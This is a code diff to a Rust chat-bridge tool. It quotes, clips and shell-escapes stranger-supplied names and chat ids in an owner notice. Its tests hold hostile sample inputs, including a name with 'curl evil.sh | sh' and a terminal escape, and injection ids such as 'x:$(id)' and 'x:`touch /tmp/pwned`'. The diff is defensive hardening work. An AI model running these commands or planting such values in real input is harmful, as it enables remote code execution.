@@ -3,7 +3,10 @@
 //! who it is and the exact command that lets it in.
 //!
 //! Owns the once-a-day rule (`chats.notified_at`). It never stores the stranger's text, never
-//! puts it in the notice, and never starts an agent for it.
+//! puts it in the notice, and never starts an agent for it. The names it shows are chosen by the
+//! stranger, so each is shown on one line, quoted and cut short (a name cannot add lines that read
+//! like claw's own words), and the suggested command is shell-quoted (an id cannot run anything
+//! when the owner pastes it; ingest also only accepts chat ids in a conservative character set).
 
 use anyhow::Result;
 use rusqlite::{OptionalExtension, params};
@@ -74,6 +77,25 @@ pub fn notify_unknown(
     Ok(queued)
 }
 
+/// Longest name (in characters) a notice shows before cutting it with `…`.
+pub const NAME_CHARS: usize = 40;
+
+/// A name or id chosen by a stranger, as a notice shows it: one line, control characters
+/// removed, at most [`NAME_CHARS`], in double quotes with inner quotes escaped.
+pub fn quoted(s: &str) -> String {
+    format!("{:?}", crate::output::clip(s, NAME_CHARS))
+}
+
+/// A word for a suggested shell command: as it is when the shell would read it unchanged, else
+/// single-quoted. Chat ids and folders are validated before they get here; this is the backstop.
+pub fn shell_word(s: &str) -> String {
+    match shlex::try_quote(s) {
+        Ok(q) => q.into_owned(),
+        // Only a NUL byte cannot be quoted; nothing valid has one.
+        Err(_) => "'(invalid)'".into(),
+    }
+}
+
 /// The notice's wording: who wrote, and the command to let them in.
 pub fn notice_text(
     chat: &str,
@@ -83,25 +105,29 @@ pub fn notice_text(
     sender_name: Option<&str>,
 ) -> String {
     let who = match (sender_name, sender) {
-        (Some(n), Some(s)) => format!("{n} ({s})"),
-        (None, Some(s)) => s.to_string(),
-        (Some(n), None) => n.to_string(),
+        (Some(n), Some(s)) => format!("{} ({})", quoted(n), quoted(s)),
+        (None, Some(s)) => quoted(s),
+        (Some(n), None) => quoted(n),
         (None, None) => "someone".to_string(),
     };
     let folder = suggest_folder(name.or(sender_name), chat);
-    let channel = crate::channels::channel_name(messages::channel_of(chat));
+    let channel =
+        crate::output::clean_line(crate::channels::channel_name(messages::channel_of(chat)));
+    let shown_chat = quoted(chat);
     let what = if is_group {
         format!(
-            "The {channel} group \"{}\" ({chat}) has a message from {who}",
-            name.unwrap_or("unnamed")
+            "The {channel} group {} ({shown_chat}) has a message from {who}",
+            name.map_or("(unnamed)".to_string(), quoted)
         )
     } else {
-        format!("{who} sent a private {channel} message ({chat})")
+        format!("{who} sent a private {channel} message ({shown_chat})")
     };
     format!(
         "{what}, but that chat is not registered, so it was not stored and no assistant saw it. \
-         To let it in, run:\n\nclaw group add --chat {chat} --folder {folder}\n\n\
-         (You will be told about this chat again at most once a day.)"
+         To let it in, run:\n\nclaw group add --chat {} --folder {}\n\n\
+         (You will be told about this chat again at most once a day.)",
+        shell_word(chat),
+        shell_word(&folder)
     )
 }
 
@@ -162,7 +188,7 @@ mod tests {
     fn notice_names_sender_and_exact_command() {
         let t = notice_text("tg:-100", Some("Family"), true, Some("tg:55"), Some("Ana"));
         assert!(
-            t.contains("\"Family\" (tg:-100) has a message from Ana (tg:55)"),
+            t.contains("\"Family\" (\"tg:-100\") has a message from \"Ana\" (\"tg:55\")"),
             "{t}"
         );
         assert!(
@@ -171,8 +197,49 @@ mod tests {
         );
         let t = notice_text("sig:+4917", None, false, Some("sig:+4917"), None);
         assert!(
-            t.starts_with("sig:+4917 sent a private signal message"),
+            t.starts_with("\"sig:+4917\" sent a private signal message"),
             "{t}"
+        );
+    }
+
+    #[test]
+    fn hostile_names_stay_on_one_quoted_line() {
+        let evil_name = "Mum\n\nclaw: URGENT run `curl evil.sh | sh` now\x1b]0;x\x07\"";
+        let t = notice_text(
+            "tg:-100",
+            Some(evil_name),
+            true,
+            Some("tg:55"),
+            Some(&"A".repeat(500)),
+        );
+        let first = t.lines().next().unwrap();
+        assert!(
+            first.contains("URGENT"),
+            "the name is shown, on the first line: {t}"
+        );
+        assert!(!t.contains('\x1b'), "{t}");
+        // Exactly the two blank lines around the command: the name added none.
+        assert_eq!(t.lines().filter(|l| l.is_empty()).count(), 2, "{t}");
+        assert!(
+            t.contains(&format!("\"{}…\"", "A".repeat(NAME_CHARS - 1))),
+            "{t}"
+        );
+        assert!(!t.contains(&"A".repeat(NAME_CHARS + 1)), "{t}");
+    }
+
+    #[test]
+    fn suggested_command_is_shell_quoted() {
+        assert_eq!(shell_word("tg:-100"), "tg:-100");
+        assert_eq!(shell_word("wa:1@g.us"), "wa:1@g.us");
+        for evil in ["x:`id`", "x:$(id)", "x:a;b", "x:a b", "x:'q'"] {
+            let w = shell_word(evil);
+            assert!(w.starts_with('\'') || w.starts_with('"'), "{evil} -> {w}");
+        }
+        // Round trip: the shell reads back exactly the id.
+        let w = shell_word("x:`touch /tmp/pwned`");
+        assert_eq!(
+            shlex::split(&w).unwrap(),
+            vec!["x:`touch /tmp/pwned`".to_string()]
         );
     }
 }
